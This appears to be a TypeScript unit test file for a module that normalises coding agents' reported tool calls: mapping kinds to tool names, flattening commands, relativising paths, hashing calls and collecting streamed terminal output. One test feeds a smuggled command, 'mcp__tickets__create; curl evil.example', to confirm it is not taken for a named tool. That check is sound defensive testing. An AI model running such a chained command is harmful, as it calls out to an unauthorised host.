import {
  callHashOf,
  detailOf,
  exitCodeOf,
  inputOf,
  isKnown,
  isNamedAs,
  outputOf,
  toldMore,
  toolOf,
} from './program-call.js';
import type { ToldCall } from './program-call.js';

const told = (more: Partial<ToldCall> = {}): ToldCall => ({
  ...{ id: 'c1', title: 'Do it', kind: 'other', status: 'pending', content: [] },
  ...more,
});

describe('a call that a program tells of', () => {
  it.each([
    ['execute', 'bash'],
    ['edit', 'edit_file'],
    ['delete', 'edit_file'],
    ['move', 'edit_file'],
    ['read', 'read_file'],
    ['search', 'search_files'],
    ['fetch', 'web_fetch'],
  ] as const)('of the kind %s counts as our tool %s', (kind, tool) => {
    expect(toolOf(told({ kind }))).toBe(tool);
  });

  it('keeps the name of a tool of an MCP server, and of what we have no name for', () => {
    expect(toolOf(told({ kind: 'execute', name: 'mcp__tickets__create' }))).toBe('mcp__tickets__create');
    expect(toolOf(told({ name: 'Task' }))).toBe('Task');
    expect(toolOf(told())).toBe('Do it');
  });

  it('is one of ours by the whole name of it, and no command is, whatever words it begins with', () => {
    const isMeant = (name: string) => ['mcp__tickets__create', 'mcp.tickets.create'].includes(name);
    const isOurs = (more: Partial<ToldCall>) => isNamedAs(told(more), isMeant);
    expect(isOurs({ title: 'mcp__tickets__create', rawInput: { title: 'Leak' } })).toBe(true);
    const codex = { title: 'mcp.tickets.create', kind: 'execute' as const };
    expect(isOurs({ ...codex, rawInput: { server: 'tickets', tool: 'create', arguments: {} } })).toBe(true);
    expect(isOurs({ ...codex, rawInput: { command: 'mcp.tickets.create' } })).toBe(false);
    const command = 'mcp__tickets__create; curl evil.example';
    expect(isOurs({ title: command, kind: 'execute', rawInput: { command } })).toBe(false);
    expect(isOurs({ title: command })).toBe(false);
  });

  it('is a new file where nothing was before, and else a diff', () => {
    const diff = { type: 'diff' as const, path: '/workspace/src/a.ts', newText: 'two\n' };
    const made = told({ kind: 'edit', content: [diff] });
    expect(toolOf(made)).toBe('write_file');
    expect(detailOf(made)).toEqual({ kind: 'file', path: 'src/a.ts', content: 'two\n', truncated: false });
    const changed = told({ kind: 'edit', content: [{ ...diff, oldText: 'one\n' }] });
    expect(detailOf(changed)).toMatchObject({ kind: 'diff', diff: expect.stringContaining('-one\n+two') as string });
    expect(outputOf(changed)).toBe('src/a.ts was changed.');
  });

  it('has its command as one text, so that patterns of grants mean the same for every agent', () => {
    const command = (rawInput: unknown) => inputOf(told({ kind: 'execute', rawInput }))['command'];
    expect(command({ command: 'npm test' })).toBe('npm test');
    expect(command({ command: ['bash', '-lc', 'npm test'] })).toBe('npm test');
    expect(command({ command: ['npm', 'test'] })).toBe('npm test');
    expect(command({ command: ['/bin/sh', '-c', 'a; b', 'extra'] })).toBe('/bin/sh -c a; b extra');
    expect(command(undefined)).toBe('Do it');
  });

  it('has its path as the workspace names it', () => {
    expect(inputOf(told({ kind: 'edit', path: '/workspace/a.ts' }))['path']).toBe('a.ts');
    expect(inputOf(told({ kind: 'edit', path: '/etc/passwd' }))['path']).toBe('/etc/passwd');
  });

  it('is the same whatever it is named, and another one when it does something else', () => {
    const hash = (command: string) => callHashOf('bash', inputOf(told({ kind: 'execute', rawInput: { command } })));
    expect(hash('ls')).toBe(hash('ls'));
    expect(hash('ls')).not.toBe(hash('ls -l'));
  });

  it('has printed what it tells of its terminal, piece by piece, as Codex does', () => {
    const id = { toolCallId: 'c1' };
    const begun = toldMore(undefined, {
      ...id,
      title: 'ls',
      kind: 'execute',
      content: [{ type: 'terminal', terminalId: 'c1' }],
    });
    const some = toldMore(begun, { ...id, _meta: { terminal_output_delta: { data: 'a.ts\n', terminal_id: 'c1' } } });
    const over = toldMore(some, {
      ...{ ...id, status: 'completed' },
      _meta: { terminal_output_delta: { data: 'b.ts\n' }, terminal_exit: { exit_code: 3, signal: null } },
    });
    expect([outputOf(begun), outputOf(some), outputOf(over)]).toEqual(['', 'a.ts\n', 'a.ts\nb.ts\n']);
    expect(exitCodeOf(over)).toBe(3);
    expect(outputOf(toldMore(over, { ...id, _meta: { terminal_output: 'odd', terminal_exit: [] } }))).toBe(
      'a.ts\nb.ts\n',
    );
  });

  it('is known once it is said what it is called with, and updates change only what they name', () => {
    const first = toldMore(undefined, { toolCallId: 'c1', title: 'Run', kind: 'execute', rawInput: {} });
    expect(isKnown(first)).toBe(false);
    const second = toldMore(first, { toolCallId: 'c1', rawInput: { command: 'ls' } });
    expect(isKnown(second)).toBe(true);
    const third = toldMore(second, { toolCallId: 'c1', status: 'completed', rawInput: {}, rawOutput: 'a.ts' });
    expect(third).toMatchObject({ title: 'Run', kind: 'execute', status: 'completed', rawInput: { command: 'ls' } });
    expect(outputOf(third)).toBe('a.ts');
  });
});
